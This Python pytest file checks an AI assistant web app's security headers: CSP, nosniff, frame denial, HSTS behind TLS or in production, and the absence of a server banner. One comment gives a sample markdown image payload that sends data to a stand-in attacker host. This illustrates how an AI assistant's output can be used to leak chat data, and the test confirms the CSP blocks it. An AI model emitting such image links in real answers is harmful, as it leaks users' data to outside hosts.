"""Response headers: security headers on API and web answers, HSTS behind TLS, no server banner."""

from __future__ import annotations

import socket
import tempfile
import threading
import time
from pathlib import Path
from typing import Any

import httpx
import pytest
import uvicorn
from fastapi import FastAPI
from fastapi.testclient import TestClient
from starlette.applications import Starlette
from starlette.responses import PlainTextResponse
from starlette.routing import Route

from assistant.api.middleware import SecurityHeadersMiddleware
from assistant.cli import _serve
from tests.factories import Account

_EVERYWHERE = {"x-content-type-options": "nosniff", "referrer-policy": "same-origin", "x-frame-options": "DENY"}


@pytest.mark.parametrize("path", ["/healthz", "/api/me", "/v1/models", "/api/nope", "/openapi.json"])
def test_api_answers_carry_security_headers_and_a_deny_all_csp(client: TestClient, path: str) -> None:
    response = client.get(path)
    for name, value in _EVERYWHERE.items():
        assert response.headers.get(name) == value, (path, name)
    csp = response.headers["content-security-policy"]
    assert "default-src 'none'" in csp and "frame-ancestors 'none'" in csp
    # Plain HTTP in development: HSTS would be ignored by browsers and wrong on a non-TLS origin.
    assert "strict-transport-security" not in response.headers


def test_web_pages_keep_their_own_csp_which_forbids_foreign_images_and_connections(client: TestClient) -> None:
    response = client.get("/connexion")
    assert response.status_code == 200
    csp = response.headers["content-security-policy"]
    directives = dict(part.strip().split(" ", 1) for part in csp.split(";"))
    # Markdown exfiltration (![](https://attaquant/?d=…)) needs the browser to load a foreign URL: refused.
    assert directives["img-src"].split() == ["'self'", "data:"]
    assert directives["connect-src"] == "'self'" and directives["script-src"] == "'self'"
    assert directives["frame-ancestors"] == "'none'"
    assert response.headers["x-content-type-options"] == "nosniff"


def test_hsts_behind_a_tls_proxy(client: TestClient, alice: Account) -> None:
    # The proxy terminates TLS; uvicorn's proxy_headers turns X-Forwarded-Proto into the scheme we see.
    response = client.get("https://testserver/api/me", headers=alice.bearer)
    assert response.status_code == 200
    assert response.headers["strict-transport-security"].startswith("max-age=")


def test_hsts_always_in_production() -> None:
    # create_app passes always_hsts=(environment == "production"); production settings need real secrets,
    # so the middleware is checked on its own, around a bare app, over plain HTTP.
    inner = Starlette(routes=[Route("/", lambda request: PlainTextResponse("ok"))])
    with TestClient(SecurityHeadersMiddleware(inner, always_hsts=True)) as bare:
        assert "max-age=" in bare.get("/").headers["strict-transport-security"]


def test_served_process_has_no_server_banner(app: FastAPI, monkeypatch: pytest.MonkeyPatch) -> None:
    # What `assistant serve` hands uvicorn is what production runs: capture it, then serve with those options.
    captured: dict[str, Any] = {}
    monkeypatch.setattr(_serve.uvicorn, "run", lambda *args, **kwargs: captured.update(kwargs))
    monkeypatch.setenv("SOUVERAIN_DATA_DIR", str(app_data_dir(app)))
    _serve.serve(host="127.0.0.1", port=1, workers=1)
    assert captured["server_header"] is False and captured["date_header"] is True

    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    config = uvicorn.Config(
        app, lifespan="on", log_config=None, server_header=captured["server_header"], date_header=True
    )
    server = uvicorn.Server(config)
    thread = threading.Thread(target=server.run, kwargs={"sockets": [sock]}, daemon=True)
    thread.start()
    try:
        deadline = time.monotonic() + 30
        while not server.started and time.monotonic() < deadline:
            time.sleep(0.02)
        response = httpx.get(f"http://127.0.0.1:{sock.getsockname()[1]}/healthz")
    finally:
        server.should_exit = True
        thread.join(timeout=30)
    assert response.status_code == 200
    assert "server" not in response.headers and "date" in response.headers


def app_data_dir(app: FastAPI) -> Path:
    return Path(tempfile.mkdtemp())
